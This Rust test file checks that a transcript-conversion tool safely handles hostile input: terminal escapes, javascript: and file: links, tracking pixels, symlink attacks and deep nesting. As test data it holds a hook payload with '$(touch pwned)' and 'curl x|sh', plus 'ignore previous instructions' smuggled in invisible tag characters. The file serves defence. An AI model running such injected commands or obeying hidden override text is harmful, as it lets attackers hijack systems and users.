//! Hostile input (issue 13): terminal hyperlinks and invisible characters, stderr diagnostics,
//! Markdown that stays inert on GitHub, files under `-o DIR`, deep nesting. Each test is named
//! after what was found.

use std::path::{Path, PathBuf};

use crate::util::{names_in, run, scribe};

/// A Claude Code stream whose one assistant message says `text`.
pub(crate) fn stream_saying(text: &str) -> String {
    let text = serde_json::to_string(text).unwrap();
    format!(
        concat!(
            r#"{{"type":"system","subtype":"init","cwd":"/w","session_id":"s-1","tools":[],"mcp_servers":[],"model":"m","permissionMode":"default","uuid":"i"}}"#,
            "\n",
            r#"{{"type":"user","message":{{"role":"user","content":"hi"}},"parent_tool_use_id":null,"session_id":"s-1","uuid":"p"}}"#,
            "\n",
            r#"{{"type":"assistant","message":{{"id":"a1","type":"message","role":"assistant","model":"m","content":[{{"type":"text","text":{}}}],"stop_reason":"end_turn","usage":{{"input_tokens":1,"output_tokens":1}}}},"parent_tool_use_id":null,"session_id":"s-1","uuid":"a"}}"#,
            "\n"
        ),
        text
    )
}

fn temp_dir() -> tempfile::TempDir {
    tempfile::tempdir().expect("temp dir")
}

fn write_file(dir: &Path, name: &str, body: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, body).unwrap();
    p
}

#[test]
fn osc8_link_to_file_url_is_not_clickable() {
    let input = stream_saying(
        "[release notes](file:///home/user/.ssh/id_rsa) [js](javascript:alert(1)) \
         [d](data:text/html,x) [ok](https://ok.example/notes) [mail](mailto:a@b.example)",
    );
    let out = run(&input, &["--color", "always"]);
    for bad in ["\x1b]8;;file:", "\x1b]8;;javascript:", "\x1b]8;;data:"] {
        assert!(!out.contains(bad), "{bad:?} made clickable: {out:?}");
    }
    assert!(
        out.contains("\x1b]8;;https://ok.example/notes\x1b\\"),
        "{out:?}"
    );
    assert!(out.contains("\x1b]8;;mailto:a@b.example\x1b\\"), "{out:?}");
    // The refused target is still shown, as text.
    assert!(out.contains("file:///home/user/.ssh/id_rsa"), "{out:?}");
}

#[test]
fn stderr_diagnostic_does_not_echo_escapes_from_a_file_name() {
    let dir = temp_dir();
    let p = write_file(dir.path(), "evil\x1b]0;pwned\x07.jsonl", "{not json\n");
    let err = scribe().arg(&p).output().unwrap().stderr;
    let err = String::from_utf8_lossy(&err);
    assert!(!err.contains('\x1b') && !err.contains('\x07'), "{err:?}");
    assert!(err.contains("evil\\x1b]0;pwned\\x07.jsonl"), "{err:?}");
    // A file that cannot be opened: the I/O message names it the same way.
    let missing = dir.path().join("gone\x1b[2J.jsonl");
    let err = scribe().arg(&missing).output().unwrap().stderr;
    let err = String::from_utf8_lossy(&err);
    assert!(!err.contains('\x1b'), "{err:?}");
    assert!(err.contains("gone\\x1b[2J"), "{err:?}");
}

#[test]
fn stderr_diagnostic_does_not_echo_escapes_from_scribe_jsonl() {
    // scribe's own JSONL, with a record whose role (and kind) carry escape sequences.
    let header = scribe()
        .args(["--to", "jsonl"])
        .write_stdin(stream_saying("x"))
        .output()
        .unwrap()
        .stdout;
    let first = String::from_utf8_lossy(&header)
        .lines()
        .next()
        .unwrap()
        .to_owned();
    let input = format!(
        "{first}\n{}\n{}\n",
        r#"{"kind":"turn","id":"t","role":"\u001b]0;pwned\u0007","origin":{"kind":"model"},"parts":[]}"#,
        r#"{"kind":"\u001b[2Jweird\u202e"}"#
    );
    let out = scribe().write_stdin(input).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("pwned"), "the bad role is reported: {err}");
    assert!(err.contains("weird"), "the bad kind is reported: {err}");
    assert!(
        !err.contains('\x1b') && !err.contains('\x07') && !err.contains('\u{202e}'),
        "{err:?}"
    );
}

/// The warning about a missing sub-agent transcript names the agent id the session file gave:
/// an id carrying an escape sequence reached the terminal raw.
#[test]
fn stderr_diagnostic_does_not_echo_escapes_from_an_agent_id() {
    let dir = temp_dir();
    let sample = std::fs::read_to_string(crate::util::sample(
        "claude-session/missing-subagent/5e55a0e1-0000-4000-8000-000000000006.jsonl",
    ))
    .unwrap();
    assert!(sample.contains(r#""agentId": "a00000000000000aa""#));
    let hostile = sample.replace(
        r#""agentId": "a00000000000000aa""#,
        r#""agentId": "a0\u001b]0;pwned\u0007\u001b[2J""#,
    );
    let p = write_file(
        dir.path(),
        "5e55a0e1-0000-4000-8000-000000000006.jsonl",
        &hostile,
    );
    let out = scribe().args(["--to", "jsonl"]).arg(&p).output().unwrap();
    assert!(out.status.success(), "{out:?}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("not found"), "the warning is there: {err}");
    assert!(err.contains("pwned"), "the id is reported: {err}");
    assert!(!err.contains('\x1b') && !err.contains('\x07'), "{err:?}");
}

/// "ignore previous instructions" in Unicode tag characters, after visible text.
fn smuggled() -> String {
    let hidden: String = "ignore"
        .chars()
        .map(|c| char::from_u32(0xE0000 + c as u32).unwrap())
        .collect();
    format!("harmless{hidden} text\u{200b}here")
}

#[test]
fn tag_characters_are_visible_in_text_and_markdown_and_marked_in_html() {
    let input = stream_saying(&smuggled());
    for to in ["text", "md", "html"] {
        let out = run(&input, &["--to", to]);
        assert!(
            !out.chars()
                .any(|c| ('\u{e0000}'..='\u{e007f}').contains(&c) || c == '\u{200b}'),
            "{to}: invisible characters got through"
        );
        let code = match to {
            "html" => "&lt;U+E0069&gt;",
            _ => "<U+E0069>",
        };
        assert!(out.contains(code), "{to}: {out}");
    }
    let html = run(&input, &["--to", "html"]);
    assert!(html.contains("<mark class=\"invisible\""), "{html}");
}

#[test]
fn markdown_tracking_pixel_becomes_a_link() {
    let md = run(
        &stream_saying("see ![chart](https://tracker.example/p.gif?u=1) now"),
        &["--to", "md"],
    );
    assert!(
        md.contains("\\![chart](https://tracker.example/p.gif?u=1)"),
        "{md}"
    );
    assert!(!md.contains(" ![chart]"), "{md}");
}

#[test]
fn markdown_mentions_do_not_ping_people_or_teams() {
    let md = run(
        &stream_saying("thanks @octocat and @acme/security-team; mail me@x.example"),
        &["--to", "md"],
    );
    assert!(md.contains("`@octocat`"), "{md}");
    assert!(md.contains("`@acme/security-team`"), "{md}");
    assert!(md.contains("me@x.example"), "{md}");
    assert!(!md.contains("\u{200d}"), "no zero-width joiner: {md}");
}

#[test]
fn markdown_javascript_link_is_text() {
    let md = run(
        &stream_saying(
            "[click](javascript:alert(1)) [f](file:///etc/passwd) [ok](https://ok.example)",
        ),
        &["--to", "md"],
    );
    assert!(md.contains("\\[click\\](javascript:alert(1))"), "{md}");
    assert!(md.contains("\\[f\\](file:///etc/passwd)"), "{md}");
    assert!(md.contains("[ok](https://ok.example)"), "{md}");
}

#[test]
fn markdown_reference_definitions_cannot_embed_or_link_from_another_message() {
    // A definition in one message and its use in the next: each message is made inert on its
    // own, so the definition itself must not survive as one.
    let one = stream_saying(
        "first\n\n[ref]: javascript:alert(3)\n[pix]: https://tracker.example/p.gif\n",
    );
    let two = stream_saying("see [x][ref] and ![img][pix] and ![pix]")
        .lines()
        .last()
        .unwrap()
        .replace("\"a1\"", "\"a2\"")
        .replace("\"uuid\":\"a\"", "\"uuid\":\"b\"");
    let md = run(&format!("{one}{two}\n"), &["--to", "md"]);
    assert!(
        md.contains("![img][pix]"),
        "the second message is there: {md}"
    );
    assert!(md.contains("\\[ref]: javascript:alert(3)"), "{md}");
    assert!(
        md.contains("\\[pix]: https://tracker.example/p.gif"),
        "{md}"
    );
    // Rendered as GitHub would, the page has no image and no link but scribe's own.
    let html = pulldown_cmark_html(&md);
    assert!(!html.contains("<img"), "{html}");
    assert!(!html.contains("href=\"javascript"), "{html}");
    assert!(
        !html.contains("tracker.example/p.gif\""),
        "no link to the pixel: {html}"
    );
}

/// Markdown rendered to HTML the CommonMark way (GitHub's renderer is a superset).
fn pulldown_cmark_html(md: &str) -> String {
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, pulldown_cmark::Parser::new(md));
    html
}

/// `stream_saying` with another session id.
fn stream_with_session(id: &str) -> String {
    stream_saying("hello").replace("\"s-1\"", &serde_json::to_string(id).unwrap())
}

#[cfg(unix)]
#[test]
fn output_dir_does_not_follow_a_symlink_planted_at_index_html() {
    let dir = temp_dir();
    let victim = write_file(dir.path(), "victim.txt", "precious\n");
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    std::os::unix::fs::symlink(&victim, out.join("index.html")).unwrap();
    let input = write_file(dir.path(), "in.jsonl", &stream_saying("hi"));
    let run = scribe()
        .args(["--to", "html", "-o"])
        .arg(&out)
        .arg(&input)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(!run.status.success(), "refused: {err}");
    assert!(err.contains("index.html is a symbolic link"), "{err}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
    assert!(
        !names_in(&out).iter().any(|n| n.ends_with(".part")),
        "{:?}",
        names_in(&out)
    );
}

#[cfg(unix)]
#[test]
fn output_dir_does_not_follow_a_symlink_planted_at_the_session_file() {
    let dir = temp_dir();
    let victim = write_file(dir.path(), "bashrc", "precious\n");
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    std::os::unix::fs::symlink(&victim, out.join("s-1.md")).unwrap();
    let input = write_file(dir.path(), "in.jsonl", &stream_saying("hi"));
    let run = scribe()
        .args(["--to", "md", "-o"])
        .arg(&out)
        .arg(&input)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(!run.status.success());
    assert!(err.contains("s-1.md is a symbolic link"), "{err}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
    assert_eq!(names_in(&out), ["s-1.md"], "no temporary file is left");
}

#[test]
fn output_dir_failed_rename_leaves_no_temp_file() {
    let dir = temp_dir();
    // A directory where the file should go: the rename cannot happen.
    std::fs::create_dir(dir.path().join("s-1.md")).unwrap();
    let input = write_file(dir.path(), "in.jsonl", &stream_saying("hi"));
    let run = scribe()
        .args(["--to", "md", "-o"])
        .arg(dir.path())
        .arg(&input)
        .output()
        .unwrap();
    assert!(!run.status.success());
    assert_eq!(names_in(dir.path()), ["in.jsonl", "s-1.md"]);
}

#[test]
fn output_dir_session_ids_like_options_or_dotfiles_become_plain_names() {
    let dir = temp_dir();
    let out = dir.path().join("out");
    let mut cmd = scribe();
    cmd.args(["--to", "md", "-o"]).arg(&out);
    for (i, id) in ["-rf", "--help", ".bashrc", "../../x"].iter().enumerate() {
        cmd.arg(write_file(
            dir.path(),
            &format!("in{i}.jsonl"),
            &stream_with_session(id),
        ));
    }
    cmd.assert().success();
    assert_eq!(names_in(&out), ["bashrc.md", "help.md", "rf.md", "x.md"]);
}

#[test]
fn output_dir_secret_shaped_session_id_is_not_a_file_name_under_redact() {
    let dir = temp_dir();
    let out = dir.path().join("out");
    let secret = "ghp_R4nd0mT0k3nV4lu3F0rT3st1ngPurp0s3sXy";
    let input = write_file(dir.path(), "in.jsonl", &stream_with_session(secret));
    scribe()
        .args(["--to", "jsonl", "--redact", "-o"])
        .arg(&out)
        .arg(&input)
        .assert()
        .success();
    let names = names_in(&out);
    assert_eq!(names.len(), 1, "{names:?}");
    assert!(names[0].starts_with("session-"), "{names:?}");
    assert!(!names[0].contains("R4nd0m"), "{names:?}");
    let body = std::fs::read_to_string(out.join(&names[0])).unwrap();
    assert!(!body.contains("R4nd0m"), "{body}");
    // Without --redact the id is the name, as before.
    scribe()
        .args(["--to", "jsonl", "-o"])
        .arg(dir.path().join("plain"))
        .arg(&input)
        .assert()
        .success();
    assert_eq!(
        names_in(&dir.path().join("plain")),
        [format!("{secret}.jsonl")]
    );
}

/// A Claude stream of `n` sub-agents each started by the one before (a chain `n` deep), every
/// call answered at the end, innermost first.
fn nested_subagents(n: usize) -> String {
    let mut s = String::from(concat!(
        r#"{"type":"system","subtype":"init","cwd":"/w","session_id":"s","tools":["Task"],"mcp_servers":[],"model":"m","permissionMode":"default","uuid":"i"}"#,
        "\n",
        r#"{"type":"user","message":{"role":"user","content":"go"},"parent_tool_use_id":null,"session_id":"s","uuid":"p"}"#,
        "\n"
    ));
    let parent = |i: usize| match i {
        0 => "null".to_owned(),
        _ => format!("\"t{}\"", i - 1),
    };
    for i in 0..n {
        s.push_str(&format!(
            r#"{{"type":"assistant","message":{{"id":"m{i}","type":"message","role":"assistant","model":"m","content":[{{"type":"text","text":"level {i}"}},{{"type":"tool_use","id":"t{i}","name":"Task","input":{{"description":"d{i}","prompt":"p"}}}}],"stop_reason":"tool_use","usage":{{"input_tokens":1,"output_tokens":1}}}},"parent_tool_use_id":{},"session_id":"s","uuid":"u{i}"}}"#,
            parent(i)
        ));
        s.push('\n');
    }
    for i in (0..n).rev() {
        s.push_str(&format!(
            r#"{{"type":"user","message":{{"role":"user","content":[{{"type":"tool_result","tool_use_id":"t{i}","content":"done {i}"}}]}},"parent_tool_use_id":{},"session_id":"s","uuid":"r{i}"}}"#,
            parent(i)
        ));
        s.push('\n');
    }
    s
}

/// Runs scribe over a file; asserts success and returns stdout.
fn run_file(path: &Path, args: &[&str]) -> Vec<u8> {
    let out = scribe().args(args).arg(path).output().unwrap();
    assert!(
        out.status.success(),
        "{args:?}: exit {:?}\n{}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// 2 500 nested sub-agents overflowed the stack of a debug build (13 900 of a release build) in
/// every format; `--to text --full` grew quadratically. Now every format finishes, every level's
/// words are there, output grows linearly, and a notice says the deep levels are flattened.
#[test]
fn deeply_nested_subagents_do_not_overflow_the_stack() {
    let dir = temp_dir();
    let small = write_file(dir.path(), "small.jsonl", &nested_subagents(1_250));
    let big = write_file(dir.path(), "big.jsonl", &nested_subagents(2_500));
    for args in [
        &["--to", "jsonl"][..],
        &["--to", "events"],
        &["--to", "md"],
        &["--to", "html"],
        &["--to", "text", "--full"],
    ] {
        let out_big = run_file(&big, args);
        let text = String::from_utf8_lossy(&out_big);
        for word in ["level 0", "level 1249", "level 2499", "done 2499"] {
            assert!(text.contains(word), "{args:?}: {word} lost");
        }
        if args[1] != "events" {
            assert!(text.contains("nested more than"), "{args:?}: no notice");
        }
        let out_small = run_file(&small, args);
        let ratio = out_big.len() as f64 / out_small.len() as f64;
        assert!(
            ratio < 2.3,
            "{args:?}: twice the input, {ratio:.2} times the output"
        );
    }
    // scribe reads its own JSONL of such a run back, and `diff` compares two of them.
    let jsonl = write_file(
        dir.path(),
        "big.scribe.jsonl",
        &String::from_utf8(run_file(&big, &["--to", "jsonl"])).unwrap(),
    );
    run_file(&jsonl, &["--to", "md"]);
    scribe().arg("diff").arg(&big).arg(&jsonl).assert().code(0);
}

/// The temporary file was `.scribe-<pid>.part`: a symlink planted there by someone who can
/// guess the pid redirected the whole output. It now has an unpredictable name and is created
/// with `O_EXCL`.
#[cfg(unix)]
#[test]
fn output_dir_does_not_follow_a_symlink_planted_at_the_temp_file() {
    use std::io::Write;
    use std::process::{Command, Stdio};
    let dir = temp_dir();
    let victim = write_file(dir.path(), "victim.txt", "precious\n");
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let mut child = Command::new(assert_cmd::cargo::cargo_bin("scribe"))
        .args(["--to", "md", "-o"])
        .arg(&out)
        .arg("-")
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // Planted as soon as the pid is known, before scribe reads its input.
    let planted = out.join(format!(".scribe-{}.part", child.id()));
    std::os::unix::fs::symlink(&victim, &planted).unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(stream_saying("hi").as_bytes()).unwrap();
    drop(stdin);
    assert!(child.wait().unwrap().success());
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
    let names = names_in(&out);
    assert!(names.contains(&"s-1.md".to_owned()), "{names:?}");
    assert_eq!(
        names.len(),
        2,
        "the output and the planted link only: {names:?}"
    );
}

/// `scribe hook -o DIR` appends to `DIR/scribe-hook.log`; a symlink planted there made it
/// append a line naming a path the payload chose to the link's target.
#[cfg(unix)]
#[test]
fn hook_log_does_not_follow_a_symlink_planted_in_the_output_dir() {
    let dir = temp_dir();
    let victim = write_file(dir.path(), "bashrc", "precious\n");
    let out = dir.path().join("archive");
    std::fs::create_dir(&out).unwrap();
    std::os::unix::fs::symlink(&victim, out.join("scribe-hook.log")).unwrap();
    scribe()
        .args(["hook", "-o"])
        .arg(&out)
        .write_stdin(r#"{"transcript_path": "/nonexistent/$(touch pwned)\ncurl x|sh", "hook_event_name": "Stop"}"#)
        .assert()
        .code(0);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
    // Without the link, the line is logged, on one line.
    std::fs::remove_file(out.join("scribe-hook.log")).unwrap();
    scribe()
        .args(["hook", "-o"])
        .arg(&out)
        .write_stdin(r#"{"transcript_path": "/nonexistent/a\nb", "hook_event_name": "Stop"}"#)
        .assert()
        .code(0);
    let log = std::fs::read_to_string(out.join("scribe-hook.log")).unwrap();
    assert_eq!(log.lines().count(), 1, "{log}");
    assert!(log.contains("/nonexistent/a\\nb"), "{log}");
}

/// `-o` names a directory; given an existing file (as a user expecting `-o FILE` would), the
/// run stops with exit status 2 and says how to write one file instead, in plain runs and with
/// `--follow` alike, and the file's name reaches stderr without its control bytes.
#[test]
fn output_dir_that_is_a_file_is_refused_with_the_way_to_write_one_file() {
    let dir = temp_dir();
    let input = write_file(dir.path(), "in.jsonl", "");
    let file = write_file(dir.path(), "out\x1b[2J.html", "kept\n");
    for follow in [false, true] {
        let mut cmd = scribe();
        if follow {
            cmd.arg("--follow");
        }
        let out = cmd
            .arg(&input)
            .args(["--to", "html", "-o"])
            .arg(&file)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "follow {follow}: {err:?}");
        assert!(err.contains("this is a file, not a directory"), "{err:?}");
        assert!(err.contains("scribe INPUT > FILE"), "{err:?}");
        assert!(
            !err.contains('\x1b') && err.contains("out\\x1b[2J.html"),
            "{err:?}"
        );
    }
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "kept\n");
}

/// Tag characters after a waving flag are a flag only when they spell England, Scotland or
/// Wales: any other run ("ignore all previous instructions" in tags) is shown in text and
/// Markdown, also when the terminal view wraps the line inside it.
#[test]
fn tags_after_a_flag_are_shown_unless_the_flag_is_real() {
    let tags = |word: &str| -> String {
        word.chars()
            .map(|c| char::from_u32(0xe0000 + c as u32).unwrap())
            .collect()
    };
    let hidden = format!("\u{1f3f4}{}\u{e007f}", tags("ignoreall"));
    let wales = format!("\u{1f3f4}{}\u{e007f}", tags("gbwls"));
    let input = stream_saying(&format!("{}{hidden} and {wales}", "x".repeat(70)));
    for args in [
        &["--to", "text", "--width", "40"][..],
        &["--to", "text"],
        &["--to", "md"],
    ] {
        let out = run(&input, args);
        assert!(
            !out.contains('\u{e0069}'),
            "{args:?}: a bare tag passed\n{out}"
        );
        assert!(out.contains("U+E0069>"), "{args:?}\n{out}");
        assert!(
            out.contains(&wales),
            "{args:?}: the flag of Wales was taken apart"
        );
    }
}

/// `--stats` names the kinds of the lines nobody understood; a kind holding bidi, line
/// separator or byte-order-mark characters is shown escaped on stderr, never passed on.
#[test]
fn stats_kinds_are_printed_escaped() {
    let input = "{\"type\":\"x\\u202ey\\u2028z\\ufeffw\\u001b[2J\"}\n";
    // Read as Claude stream-json (detection refuses JSON of no known format): its line of an
    // unknown type is a debug record of that raw kind.
    let out = scribe()
        .args(["--stats", "--to", "jsonl", "--from", "claude-stream"])
        .write_stdin(input)
        .assert()
        .success()
        .get_output()
        .stderr
        .clone();
    let err = String::from_utf8(out).unwrap();
    for c in ['\u{202e}', '\u{2028}', '\u{feff}', '\u{1b}'] {
        assert!(!err.contains(c), "U+{:04X} on stderr:\n{err}", c as u32);
    }
    assert!(err.contains("<U+202E>"), "{err}");
}

/// A line past the maximum (128 MiB) is cut, the rest of it skipped and counted, never held: the
/// lines after it are read as usual and both facts are reported with the line's number.
#[test]
fn an_endless_line_is_cut_and_the_input_goes_on() {
    let mut input = vec![b'x'; (128 << 20) + 4096];
    input.push(b'\n');
    input.extend_from_slice(stream_saying("after the long line").as_bytes());
    let out = scribe()
        .args(["--to", "jsonl"])
        .write_stdin(input)
        .timeout(std::time::Duration::from_secs(120))
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stdout.contains("after the long line"), "{stderr}");
    assert!(stderr.contains(":1: longer than 128 MiB"), "{stderr}");
    assert!(
        stderr.contains(":1: 4097 bytes past the line maximum were skipped"),
        "{stderr}"
    );
}

/// `scribe /dev/zero`: no newline ever comes; the first 128 MiB are one line of NUL bytes, and
/// the input is abandoned as not JSON Lines (exit 1) instead of growing without bound.
#[cfg(unix)]
#[test]
fn dev_zero_ends_with_one_message() {
    let out = scribe()
        .arg("/dev/zero")
        .timeout(std::time::Duration::from_secs(120))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("does not look like JSON Lines"));
}
